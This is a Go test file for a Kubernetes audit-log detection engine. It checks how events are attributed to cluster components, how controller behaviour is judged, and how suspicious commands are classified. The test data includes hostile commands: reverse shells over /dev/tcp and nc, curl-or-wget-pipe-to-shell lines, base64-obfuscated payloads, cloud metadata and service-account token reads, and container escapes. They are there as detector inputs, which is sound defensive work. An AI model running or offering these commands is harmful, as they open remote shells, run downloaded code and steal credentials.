package detections

import (
	"testing"

	"github.com/merlonsec/merlon/internal/event"
	"github.com/merlonsec/merlon/internal/rule"
)

// An exclusion holds for a part of Kubernetes at its work: not for its credentials in other hands.
func TestPartsAreIdentityAndProgram(t *testing.T) {
	const account = "system:serviceaccount:kube-system:"
	tests := []struct {
		name        string
		is          part
		user, agent string
		want        bool
	}{
		{"a kubelet", kubelet, "system:node:n1", agentKubelet, true},
		{"a node's credentials with kubectl", kubelet, "system:node:n1", "kubectl/v1.35.0", false},
		{"a node's credentials with a client that hides its name", kubelet, "system:node:n1", "", false},
		{"a program that calls itself a kubelet", kubelet, "dev@example.com", agentKubelet, false},
		{"the API server", apiServer, "system:apiserver", agentAPIServer, true},
		{"the controller manager", controllers, "system:kube-controller-manager", agentControllers, true},
		{"one of its controllers", controllers, account + "replicaset-controller", agentControllers, true},
		{"a controller whose account is not called so", controllers, account + "generic-garbage-collector", agentControllers, true},
		{"a controller's token with kubectl", controllers, account + "replicaset-controller", "kubectl/v1.35.0", false},
		{"another account of kube-system that calls itself so", controllers, account + "coredns", agentControllers, false},
		{"a controller's name in another namespace", controllers, "system:serviceaccount:shop:replicaset-controller", agentControllers, false},
		{"an account that is called a controller", controllers, account + "evil-controller", agentControllers, false},
		{"a part of EKS", eksAddOns, "eks:addon-manager", "Go-http-client/2.0", true},
		{"a part of EKS with kubectl", eksAddOns, "eks:addon-manager", "kubectl/v1.35.0", false},
		{"a part of EKS that hides its program", eksAddOns, "eks:addon-manager", "", false},
		{"another part of EKS", eksAddOns, "eks:node-manager", "Go-http-client/2.0", false},
		{"a part of EKS with kubectl of Windows", eksAddOns, "eks:addon-manager", "kubectl.exe/v1.35.0", false},
		{"the one that makes a cluster, with kubectl", eksAddOns, "eks:cluster-bootstrap", "kubectl/v1.35.0", true},
		{"AWS's support", eksPart, "eks:support-engineer", "kubectl/v1.35.0", false},
		{"a user who is called like one", eksPart, "eks:operator", "Go-http-client/2.0", false},
		{"any part of EKS", eksPart, "eks:k8s-metrics", "Go-http-client/2.0", true},
		{"a person by hand", byHand, "dev@example.com", "anything/1.0", true},
		{"a program by itself", byHand, "system:serviceaccount:ops:operator", "operator/1.0", false},
		{"a program's token by hand", byHand, "system:serviceaccount:ops:operator", "curl/8.5.0", true},
		{"a program's token by hand on Windows", byHand, "system:serviceaccount:ops:operator", "Kubectl.EXE/v1.35.0 (windows/amd64) kubernetes/0000000", true},
		{"a program's token by a plugin", byHand, "system:serviceaccount:ops:operator", "kubectl-ns/v0.0.0 (linux/amd64) kubernetes/$Format", true},
		{"a program's token by a tool in Go", byHand, "system:serviceaccount:ops:operator", "Go-http-client/2.0", true},
		{"a program's token by a script in Python", byHand, "system:serviceaccount:ops:operator", "Python/3.12 aiohttp/3.9.1", true},
		{"a program in Go with the library of Kubernetes", byHand, "system:serviceaccount:ops:operator", "operator/v0.0.0 (linux/amd64) kubernetes/$Format", false},
		{"a program whose name begins like a tool's", byHand, "system:serviceaccount:ops:operator", "occupancy/1.0", false},
		{"a program's token with a client that hides its name", byHand, "system:serviceaccount:ops:operator", "", true},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			var a rule.Action
			addresses := event.Raw(`["10.0.3.7"]`)
			if test.user == "system:apiserver" {
				addresses = `["::1"]`
			}
			a.Reset(&event.Event{User: event.User{Name: test.user}, UserAgent: test.agent, SourceIPs: addresses}, &rule.Surroundings{})
			if got := test.is(&a); got != test.want {
				t.Errorf("with %q by %q it is %t", test.agent, test.user, got)
			}
		})
	}
	for arn, want := range map[string]bool{
		"arn:aws:sts::111122223333:assumed-role/AWSWesleyClusterManagerLambda-Add-AddonManagerRole-1A2B/1700000000": true,
		"arn:aws:sts::111122223333:assumed-role/AWSServiceRoleForAmazonEKS/EKS":                                     true,
		"arn:aws:sts::111122223333:assumed-role/deployer/mallory":                                                   false,
		"arn:aws:iam::111122223333:user/AWSWesleyClusterManagerLambda":                                              false,
	} {
		var a rule.Action
		user := event.User{Name: "eks:addon-manager", Extra: event.Raw(`{"arn":["` + arn + `"]}`)}
		a.Reset(&event.Event{User: user, UserAgent: "Go-http-client/2.0", SourceIPs: `["10.0.3.7"]`}, &rule.Surroundings{})
		if eksAddOns(&a) != want {
			t.Errorf("%s as a part of EKS: %t", arn, !want)
		}
	}
	var mapped rule.Action
	user := event.User{Name: "eks:cluster-bootstrap", Extra: `{"arn":["arn:aws:sts::111122223333:assumed-role/deployer/mallory"]}`}
	mapped.Reset(&event.Event{User: user, UserAgent: "kubectl/v1.35.0", SourceIPs: `["10.0.3.7"]`}, &rule.Surroundings{})
	if eksAddOns(&mapped) {
		t.Error("an IAM role that aws-auth calls eks:cluster-bootstrap is a part of EKS")
	}
	var trimmed rule.Action
	trimmed.Reset(&event.Event{User: event.User{Name: "system:node:n1"}}, &rule.Surroundings{})
	if !kubelet(&trimmed) || byHand(&trimmed) {
		t.Error("a record without client and address is held against a kubelet")
	}
}

// A controller's account and program let pass what the controller does, and nothing else that its role may hold.
func TestControllersDoTheirJobs(t *testing.T) {
	const account = "system:serviceaccount:kube-system:"
	const derived = `{"kind":"Pod","metadata":{"ownerReferences":[{"kind":"ReplicaSet","name":"web","uid":"1","controller":true}]}}`
	tests := []struct {
		name string
		r    record
		want bool
	}{
		{"makes a pod of a set", record{User: account + "replicaset-controller", Verb: "create", Resource: "pods", Request: derived}, true},
		{"makes a pod of nothing", record{User: account + "replicaset-controller", Verb: "create", Resource: "pods", Request: `{"kind":"Pod"}`}, false},
		{"makes a pod that the record does not show", record{User: account + "job-controller", Verb: "create", Resource: "pods"}, true},
		{"changes a template", record{User: account + "deployment-controller", Verb: "update", Resource: "deployments.apps"}, false},
		{"writes an event", record{User: account + "ttl-controller", Verb: "create", Resource: "events"}, true},
		{"watches what it works on", record{User: account + "node-controller", Verb: "watch", Resource: "nodes"}, true},
		{"asks for what it may not read", record{User: account + "node-controller", Verb: "list", Resource: "nodes", Code: 403}, false},
		{"reads a secret", record{User: account + "node-controller", Resource: "secrets", Namespace: "shop", Name: "db"}, false},
		{"runs a command", record{User: account + "node-controller", Resource: "pods/exec", Namespace: "shop", Name: "db"}, false},
		{"binds a role", record{User: account + "attachdetach-controller", Verb: "create", Resource: "clusterrolebindings.rbac.authorization.k8s.io"}, false},
		{"collects an object", record{User: account + "generic-garbage-collector", Verb: "delete", Resource: "networkpolicies.networking.k8s.io"}, true},
		{"takes an owner away", record{User: account + "generic-garbage-collector", Verb: "patch", Resource: "deployments.apps", Request: `{"metadata":{"ownerReferences":null}}`}, true},
		{"changes more than the owner", record{User: account + "generic-garbage-collector", Verb: "patch", Resource: "deployments.apps", Request: `{"metadata":{},"spec":{}}`}, false},
		{"empties a namespace", record{User: account + "namespace-controller", Verb: "deletecollection", Resource: "secrets", Namespace: "old"}, true},
		{"deletes what is in none", record{User: account + "namespace-controller", Verb: "delete", Resource: "clusterroles.rbac.authorization.k8s.io", Name: "x"}, false},
		{"scales", record{User: account + "horizontal-pod-autoscaler", Verb: "update", Resource: "deployments.apps/scale"}, true},
		{"works from a public address", record{User: account + "endpoint-controller", Verb: "update", Resource: "endpoints", IP: "203.0.113.66"}, false},
		{"works from behind a public proxy", record{User: account + "endpoint-controller", Verb: "update", Resource: "endpoints", Via: "203.0.113.66"}, false},
		{"has the token of a pod", record{
			User: account + "endpoint-controller", Verb: "update", Resource: "endpoints", Extra: `{"authentication.kubernetes.io/pod-name":["web-0"]}`,
		}, false},
		{"asks for another controller's token", record{User: manager, Verb: "create", Resource: "serviceaccounts/token", Namespace: "kube-system", Name: "job-controller"}, true},
		{"asks for the token of a program", record{User: manager, Verb: "create", Resource: "serviceaccounts/token", Namespace: "shop", Name: "web"}, false},
		{"does the work of all, as one user", record{User: manager, Verb: "update", Resource: "endpoints"}, true},
		{"binds a role, as one user", record{User: manager, Verb: "create", Resource: "rolebindings.rbac.authorization.k8s.io"}, false},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			test.r.UserAgent = agentControllers
			var d event.Decoder
			events, err := d.Append(nil, test.r.String())
			if err != nil || len(events) != 1 {
				t.Fatal(len(events), err)
			}
			var a rule.Action
			a.Reset(&events[0], &rule.Surroundings{})
			if got := controllers(&a); got != test.want {
				t.Errorf("left out: %t", got)
			}
		})
	}
}

func TestCommandsThatPackAndUnpack(t *testing.T) {
	tests := []struct {
		args []string
		want byte
	}{
		{[]string{"tar", "cf", "-", "/etc"}, 'c'},
		{[]string{"/bin/tar", "-czf", "-", "/etc"}, 'c'},
		{[]string{"sh", "-c", "tar cf - /etc | tail -c+1025"}, 'c'},
		{[]string{"tar", "-xmf", "-", "-C", "/tmp"}, 'x'},
		{[]string{"tar", "xf", "archive.tar"}, 0},
		{[]string{"tar", "cf", "/tmp/a.tar", "/etc"}, 0},
		{[]string{"target", "cf", "-"}, 0},
		{[]string{"tar"}, 0},
		{nil, 0},
	}
	for _, test := range tests {
		if got := tarMode(test.args); got != test.want {
			t.Errorf("%q: mode %q, not %q", test.args, got, test.want)
		}
	}
}

func TestSuspicions(t *testing.T) {
	tests := []struct{ command, want string }{
		{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse shell"},
		{"nc 198.51.100.7 4444 -e /bin/sh", "reverse shell"},
		{"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f", "reverse shell"},
		{"python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET);s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)", "reverse shell"},
		{"./miner -o stratum+tcp://pool.example:3333", "miner"},
		{"nsenter --target 1 --mount sh", "escape to the node"},
		{"chroot /host sh", "escape to the node"},
		{"curl http://169.254.170.23/v1/credentials", "cloud credentials"},
		{"curl http://[fd00:ec2::254]/latest/meta-data/", "cloud credentials"},
		{"cat /run/secrets/eks.amazonaws.com/serviceaccount/token", "token of the service account"},
		{"cat /proc/1/environ", "token of the service account"},
		{"wget -qO- https://198.51.100.7/i.sh | bash", "download and run"},
		{"sh -c curl -so /tmp/x https://198.51.100.7/x && chmod +x /tmp/x && /tmp/x", "download and run"},
		{"echo aWQK | base64 -d | sh", "unpack and run"},
		{"bash -c {echo,Y3VybA}|{base64,-d}|{bash,-i}", "unpack and run"},
		{"bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}", "reverse shell"},
		{"sh -c curl${IFS}-s${IFS}https://198.51.100.7/i.sh|sh", "download and run"},
		{"sh -c c''url -s https://198.51.100.7/i.sh | b\\ash", "download and run"},
		{"wget -qO- https://198.51.100.7/i.sh | busybox sh", "download and run"},
		{"wget -qO- https://198.51.100.7/i.sh | /bin/busybox ash", "download and run"},
		{"curl -s https://198.51.100.7/i.sh | sudo -u root /usr/bin/env bash", "download and run"},
		{"curl -s https://198.51.100.7/i.txt | sudo tee /etc/i.sh", ""},
		{"/bin/sh -c /bin/sh -c \"curl https://198.51.100.7/i.sh | /bin/sh\"", "download and run"},
		{"bash -c \"$(wget -qO- https://198.51.100.7/i)\"", "download and run"},
		{"bash -c `curl https://198.51.100.7/i`", "download and run"},
		{"sh -c curl -so /tmp/x https://198.51.100.7/x\nchmod +x /tmp/x\n/tmp/x", "download and run"},
		{"python3 -c import base64;exec(base64.b64decode('aWQ='))", "unpack and run"},
		{"python3 -c import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzO3M9c29ja2V0LnNvY2tldCgpO3N1YnByb2Nlc3MuY2FsbChbInNoIl0p'))", "reverse shell"},
		{"sh -c eval $(echo aWQK | base64 -d)", "unpack and run"},
		{"echo 6964 | xxd -r -p | sh", "unpack and run"},
		{"sh -c nc 198.51.100.7 4444 | sh", "reverse shell"},
		{"awk BEGIN {s = \"/inet/tcp/0/198.51.100.7/4444\"}", "reverse shell"},
		{"sh -c echo $CONFIG | base64 -d > /etc/config", ""},
		{"sh -c curl -s http://localhost/metrics | grep requests", ""},
		{"bash -c pg_dump shop | gzip | base64", ""},
		{"python3 -c import base64; print(base64.b64encode(b'shop'))", ""},
		{"node server.js --base64", ""},
		{"sh -c echo {\"a\":1,\"b\":2} > /tmp/x", ""},
		{"curl -s http://localhost:8080/healthz", ""},
		{"sh -c ls | sort", ""},
		{"env", ""},
		{"cat /etc/hosts", ""},
		{"psql -c select 1", ""},
		{"nc -z db 5432", ""},
		{"nc -zv -w 2 db 5432", ""},
		{"redis-cli ping", ""},
		{"kubectl get pods", ""},
	}
	for _, test := range tests {
		got := ""
		if s := suspicionOf([]string{test.command}); s != nil {
			got = s.what
		}
		if got != test.want {
			t.Errorf("%s: %q, not %q", test.command, got, test.want)
		}
	}
}
